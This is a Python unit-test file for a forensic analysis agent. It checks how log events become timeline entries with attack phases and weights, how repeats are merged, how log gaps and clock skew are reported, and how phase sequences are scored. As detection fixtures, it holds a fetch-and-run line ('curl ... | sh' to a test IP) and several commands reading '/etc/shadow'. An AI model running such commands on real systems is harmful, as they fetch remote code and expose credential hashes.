"""Timelines: what an event becomes, what is merged and kept, silences, and what a sequence of phases weighs."""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from datetime import timedelta
from typing import Any

import msgspec
import pytest

from services.agents.roster.forensic_analyst.judgement import knowledge, sequence_signs, silence_signs, trace_signs
from services.agents.roster.forensic_analyst.timelines import merged
from services.agents.toolkit import behaviours, eventsigns
from services.agents.toolkit.chronology import Entry, chosen, entries_of, entry_of, gaps, skew_of, window
from services.agents.toolkit.phases import order, phase_of
from services.agents.toolkit.records import record
from services.agents.toolkit.signs import WEAK_BELOW
from shared.contracts.claims import Citation
from shared.contracts.logs import TimeCount
from tests.unit.agents.agent_kit import NOW

STARTED = {"event.category": ["process"], "event.type": ["start"], "host.name": "web01", "user.name": "alice"}
MINUTE = timedelta(minutes=1)


def event(second: int = 0, **ecs: Any) -> Mapping[str, Any]:
    """A compact event so many seconds after two in the morning."""
    moment = f"2026-11-22T02:{second // 60:02}:{second % 60:02}.000Z"
    return {"log_id": f"log-{second}", "timestamp": moment, "dataset": "d", "message": "a line", "ecs": ecs}


def ran(command: str, second: int = 0, **ecs: Any) -> Mapping[str, Any]:
    return event(second, **{**STARTED, "process.command_line": command, **ecs})


def entry(second: int, phase: str | None = None, weight: float = 0.0, **changed: Any) -> Entry:
    told: dict[str, Any] = {
        "timestamp": event(second)["timestamp"],
        "last": event(second)["timestamp"],
        "host": "web01",
        "kind": "process",
        "phase": phase,
        "weight": weight,
        "text": f"did {second}",
        "log_ids": [f"log-{second}"],
    }
    return Entry(**(told | changed))


def recorded(entries: Sequence[Entry] = (), **result: Any) -> Citation:
    return record("forensic_analyst", "timeline", {"host": "web01"}, {"entries": list(entries), **result}, NOW)


def test_every_technique_of_the_knowledge_has_a_phase() -> None:
    known: list[Any] = [*behaviours.known(), *eventsigns.known()]
    techniques = {name for item in known for name in item.techniques}
    assert {technique for technique in techniques if phase_of([technique]) is None} == set()
    assert order()[0] == "reconnaissance"
    assert order()[-1] == "impact"


def test_a_phase_is_that_of_the_first_known_technique() -> None:
    assert phase_of(["T9999", "T1059.004", "T1003"]) == "execution"
    assert phase_of([]) is None


def test_a_command_that_speaks_of_intent_is_told_with_its_phase_and_weight() -> None:
    told = entry_of(ran("curl http://192.0.2.7/x | sh"))
    assert told is not None
    assert (told.kind, told.actor, told.host, told.weight) == ("process", "alice", "web01", 0.9)
    assert told.phase == "command-and-control"
    assert told.text.endswith('"curl http://192.0.2.7/x | sh"')


def test_a_persons_program_orients_and_the_systems_own_is_left_out() -> None:
    told = entry_of(ran("ls -l"))
    assert told is not None
    assert (told.text, told.weight, told.phase) == ('ran "ls -l"', 0.0, None)
    system: dict[str, Any] = {"user.name": "SYSTEM"}
    assert entry_of(ran("svchost.exe -k", **system)) is None


@pytest.mark.parametrize(
    ("ecs", "text"),
    [
        ({"event.outcome": "success", "source.ip": "192.0.2.7"}, 'logged on from "192.0.2.7"'),
        ({"event.outcome": "failure"}, "failed to log on"),
        ({"winlog.channel": "Security", "winlog.logon.type": "10"}, "logged on"),
    ],
    ids=["from", "failed", "remote-desktop"],
)
def test_a_logon_is_told(ecs: dict[str, Any], text: str) -> None:
    logon: dict[str, Any] = {"event.category": ["authentication"], "event.type": ["start"], "user.name": "alice"}
    told = entry_of(event(**logon, **ecs))
    assert told is not None
    assert (told.kind, told.text) == ("logon", text)


@pytest.mark.parametrize("ecs", [{"user.name": "WS1$"}, {"winlog.channel": "Security", "winlog.logon.type": "5"}])
def test_a_machines_and_a_services_logon_is_left_out(ecs: dict[str, Any]) -> None:
    logon: dict[str, Any] = {"event.category": ["authentication"], "event.type": ["start"], "user.name": "alice"}
    assert entry_of(event(**(logon | ecs))) is None


def test_a_cleared_log_is_of_a_kind_of_its_own() -> None:
    cleared: dict[str, Any] = {"event.code": "1102", "event.action": "audit-log-cleared", "event.category": ["iam"]}
    told = entry_of(event(**cleared))
    assert told is not None
    assert (told.kind, told.phase) == ("log_clearing", "defense-evasion")


def test_the_same_thing_again_is_counted_on_the_first() -> None:
    [told] = entries_of([ran("ls -l", 30), ran("ls -l", 10), ran("ls -l", 20)])
    assert (told.count, told.timestamp[-7:], told.last[-7:]) == (3, "10.000Z", "30.000Z")
    assert told.log_ids == ["log-10", "log-20"]


def test_what_several_sources_tell_of_one_command_is_one_thing() -> None:
    told = [
        ran("sudo /usr/bin/cat /etc/shadow", 10),
        ran("/usr/bin/cat /etc/shadow", 10, **{"user.name": "root"}),
        ran("cat /etc/shadow", 11),
        ran("cat /etc/shadow", 90),
        ran("cat /etc/shadow", 200, **{"user.name": "bob"}),
    ]
    first, bobs = entries_of(told)
    assert (first.actor, first.count, first.timestamp[-7:], first.last[-10:]) == ("alice", 2, "10.000Z", "01:30.000Z")
    assert (bobs.actor, bobs.count) == ("bob", 1)


def test_what_is_kept_fits_a_record_the_most_telling_first_and_in_order() -> None:
    many = [entry(second, weight=second % 10 / 10, text="x" * 150) for second in range(300)]
    logons = [entry(second, kind="logon") for second in range(300, 400)]
    kept = chosen([*many, *logons])
    assert len(msgspec.json.encode(kept)) <= 13 * 1024
    assert [item.weight for item in kept].count(0.9) >= 24
    assert {item.weight for item in kept} <= {0.9, 0.8, 0.0}
    assert {item.kind for item in kept if item.weight == 0} == {"logon"}
    assert [item.timestamp for item in kept] == sorted(item.timestamp for item in kept)
    assert chosen(many[:5]) == many[:5]


def test_what_only_orients_is_kept_from_the_whole_time() -> None:
    kept = chosen([entry(second) for second in range(600)])
    assert kept[0].timestamp < event(30)["timestamp"]
    assert kept[-1].timestamp > event(570)["timestamp"]


def test_a_long_silence_of_a_talking_host_is_a_gap_and_a_quiet_hosts_pauses_are_none() -> None:
    def counts(*minutes: int) -> list[TimeCount]:
        return [TimeCount(NOW + minute * MINUTE, 1) for minute in minutes]

    [gap] = gaps(counts(*range(10), *range(30, 40)), MINUTE)
    assert (gap.since, gap.until) == (NOW + 10 * MINUTE, NOW + 30 * MINUTE)
    assert gaps(counts(*range(0, 200, 20)), MINUTE) == []
    assert gaps(counts(0), MINUTE) == []
    assert gaps([], MINUTE) == []


def test_a_window_covers_all_of_a_short_alert_and_the_end_of_a_long_one() -> None:
    since, until = window(NOW, NOW)
    assert since < NOW < until
    since, until = window(NOW, NOW + timedelta(days=3))
    assert until - since == timedelta(hours=6)


def test_a_clock_that_runs_ahead_is_told() -> None:
    assert skew_of([event(), event(**{"aurora.clock_skew_seconds": 700})]) == 700
    assert skew_of([event()]) is None
    [note] = merged([recorded(clock_ahead_seconds=700)]).skewed
    assert "700 s ahead" in note


def test_timelines_of_hosts_become_one_in_order_with_each_entry_once() -> None:
    one = recorded(
        [entry(30, weight=0.5), entry(10)],
        gaps=[{"since": "2026-11-22T02:10:00.000Z", "until": "2026-11-22T02:30:00.000Z"}],
    )
    other = recorded([entry(20), entry(30, weight=0.5)], left_out=2)
    timeline = merged([one, other])
    assert [item.text for item in timeline.entries] == ["did 10", "did 20", "did 30"]
    assert {item.citation for item in timeline.entries} == {one.id, other.id}
    assert [(gap.host, gap.citation) for gap in timeline.gaps] == [("web01", one.id)]
    assert not timeline.complete
    assert merged([recorded([entry(1)], cut=[], left_out=0)]).complete


@pytest.mark.parametrize(
    ("phases", "weight"),
    [
        ([("execution", 0.9), ("persistence", 0.7), ("credential-access", 0.9), ("exfiltration", 0.5)], 0.85),
        ([("execution", 0.9), ("persistence", 0.7), ("credential-access", 0.9)], 0.7),
        ([("execution", 0.9), ("persistence", 0.7), ("discovery", 0.3)], 0.45),
        ([("execution", 0.9), ("persistence", 0.7)], None),
        ([("execution", 0.4), ("persistence", 0.4), ("discovery", 0.3), ("defense-evasion", 0.4)], None),
        ([("execution", 0.9), ("execution", 0.8), ("execution", 0.7)], None),
    ],
    ids=["four-strong", "three-strong", "two-strong", "two-phases", "only-weak", "one-phase"],
)
def test_phases_that_follow_one_another_weigh_as_stated(phases: list[tuple[str, float]], weight: float | None) -> None:
    entries = [entry(second, phase, weighs) for second, (phase, weighs) in enumerate(phases)]
    assert [sign.weight for sign in sequence_signs(recorded(entries))] == ([] if weight is None else [weight])


def test_what_administrators_do_in_a_day_makes_no_sequence() -> None:
    lines = [
        "systemctl restart nginx",
        "useradd bob",
        "usermod -aG sudo bob",
        "crontab -l",
        "tail /var/log/syslog",
        "id",
    ]
    told = entries_of([ran(line, second) for second, line in enumerate(lines)])
    assert sequence_signs(recorded(told)) == []


def test_removed_traces_weigh_less_when_another_did_it() -> None:
    cleared = entry(1, "defense-evasion", 0.8, mitre_techniques=["T1070.003"], actor="mallory")
    [mine] = trace_signs(recorded([cleared]), {"mallory"})
    [others] = trace_signs(recorded([cleared]), {"alice"})
    assert 0 < others.weight < mine.weight < 0.8
    assert '"mallory"' in mine.claim
    assert trace_signs(recorded([entry(1, "execution", 0.9, mitre_techniques=["T1059", "T1070"])]), {"alice"}) == []


def test_a_silence_only_informs() -> None:
    [sign] = silence_signs(recorded(gaps=[{"since": "2026-11-22T02:10:00.000Z", "until": "2026-11-22T02:30:00.000Z"}]))
    assert sign.weight == 0.0


def test_the_weights_of_sequences_rise_with_what_was_shown() -> None:
    chains = knowledge().chains
    assert [chain.weight for chain in chains] == sorted((chain.weight for chain in chains), reverse=True)
    assert all(chain.strong >= 2 for chain in chains)
    assert chains[-1].weight < WEAK_BELOW
